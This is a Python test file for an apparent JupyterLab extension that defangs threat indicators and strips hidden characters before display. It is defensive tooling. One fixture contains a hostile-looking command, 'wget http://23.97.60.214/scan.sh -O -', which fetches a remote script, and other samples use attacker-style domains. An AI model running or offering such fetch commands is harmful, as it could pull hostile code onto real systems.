from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from jupyterlab_sentinel.models.indicators import Indicator, visible
from jupyterlab_sentinel.models.refang import refang
from jupyterlab_sentinel.services.passages import line, passage, utf16_length

HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")
LINK = re.compile(r"(?i)[a-z]://|\bwww\.[a-z0-9]")

ANY_TEXT = st.text(alphabet=st.characters(codec=None, categories=None), max_size=60)
VALUES = st.sampled_from(
    [
        ("ipv4", "23.97.60.214"),
        ("domain", "evil.example.com"),
        ("url", "http://x.test/a?b=c"),
        ("email", "a@b.example"),
        ("sha256", "ab" * 32),
        ("ipv6", "2001:db8::1"),
        ("linux_path", "/opt/ü/😀"),
    ]
)
PLAIN = st.text(alphabet="ab 😀é\u202e\u200b\n\t<U+>…", max_size=20)


def units(text: str, start: int, end: int) -> str:
    return text.encode("utf-16-le")[2 * start : 2 * end].decode("utf-16-le")


@given(st.lists(st.tuples(PLAIN, VALUES), max_size=8), PLAIN)
def test_marks_cover_exactly_the_defanged_indicators(parts: list[tuple[str, tuple[str, str]]], tail: str) -> None:
    text, found = "", []
    for before, (kind, value) in parts:
        text += before + " "
        found.append(Indicator(kind, value, start=len(text), end=len(text) + len(value)))
        text += value + " "
    text += tail
    shown = passage(text, found)
    assert [(units(shown.text, mark.start, mark.end), mark.type) for mark in shown.marks] == [
        (item.defanged, item.type) for item in found
    ]
    assert not shown.truncated
    assert refang(shown.text) == visible(refang(text))


@given(ANY_TEXT, st.integers(min_value=0, max_value=40))
@example("😀" * 40, 7)
@example("\u202e" * 40, 20)
@example("a\ud800b", 40)
def test_whatever_the_text_it_is_inert_and_within_its_limit(text: str, limit: int) -> None:
    shown = passage(text, limit=limit)
    assert not HIDDEN.search(shown.text)
    assert not LINK.search(shown.text)
    assert utf16_length(shown.text) <= limit
    assert shown.truncated or len(shown.text) >= len(text) - text.count("\r\n")
    shown.text.encode()


@given(ANY_TEXT)
def test_a_line_is_one_line(text: str) -> None:
    shown = line(text * 10)
    assert "\n" not in shown
    assert not HIDDEN.search(shown)
    assert utf16_length(shown) <= 200


def test_of_a_url_the_host_is_marked_and_the_rest_defanged() -> None:
    text = "wget http://23.97.60.214/scan.sh -O -"
    shown = passage(
        text,
        [
            Indicator("url", "http://23.97.60.214/scan.sh", start=5, end=32),
            Indicator("ipv4", "23.97.60.214", start=12, end=24),
        ],
    )
    assert shown.text == "wget hxxp[:]//23[.]97[.]60[.]214/scan.sh -O -"
    assert [units(shown.text, mark.start, mark.end) for mark in shown.marks] == ["23[.]97[.]60[.]214"]


def test_of_overlapping_indicators_the_outer_one_is_marked() -> None:
    shown = passage(
        "mail a@b.example",
        [Indicator("domain", "b.example", start=7, end=16), Indicator("email", "a@b.example", start=5, end=16)],
    )
    assert [(mark.start, mark.end, mark.type) for mark in shown.marks] == [(5, 20, "email")]
    assert shown.text == "mail a[@]b[.]example"


def test_an_indicator_written_defanged_is_shown_defanged_once() -> None:
    text = "from hxxps[:]//evil[.]example"
    shown = passage(text, [Indicator("url", "https://evil.example", start=5, end=len(text))])
    assert shown.text == text


@pytest.mark.parametrize("room", range(12))
def test_no_mark_or_escape_is_cut_in_half(room: int) -> None:
    shown = passage("ab 10.0.0.1 cd", [Indicator("ipv4", "10.0.0.1", start=3, end=11)], limit=room)
    assert shown.truncated
    assert shown.marks == ()
    assert "1" not in shown.text
    assert "<" not in line("\u202e" * 50, room % 8)


def test_long_text_is_cut_and_says_so() -> None:
    shown = passage("A" * 1_000_000)
    assert shown.truncated
    assert len(shown.text) == 10_000
    assert shown.text.endswith("…")
    assert passage("\r\n" * 10_000).truncated is False


def test_offsets_outside_the_text_are_left_out() -> None:
    found = [
        Indicator("ipv4", "1.1.1.1", start=50, end=57),
        Indicator("ipv4", "1.1.1.1"),
        Indicator("ipv4", "", start=3, end=3),
    ]
    assert passage("short", found).marks == ()
